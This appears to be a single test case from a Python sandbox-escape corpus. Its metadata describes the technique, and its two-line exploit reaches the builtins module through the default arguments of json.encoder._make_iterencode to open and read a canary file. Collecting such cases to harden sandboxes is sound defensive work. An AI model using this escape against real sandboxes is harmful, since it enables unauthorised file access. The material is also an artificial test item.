# id: func-defaults-read
# family: function-internals
# kind: information-leak
# invariant: C, D, E
# origin: pysandbox's ChangeLog 1.5 (func_defaults)
# technique: trusted references kept in default values are a tuple in __defaults__; the JSON encoder keeps id, which keeps builtins
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import json

kept = json.encoder._make_iterencode.__defaults__
print([value for value in kept if value == id][0].__self__.open("canary.txt").read())
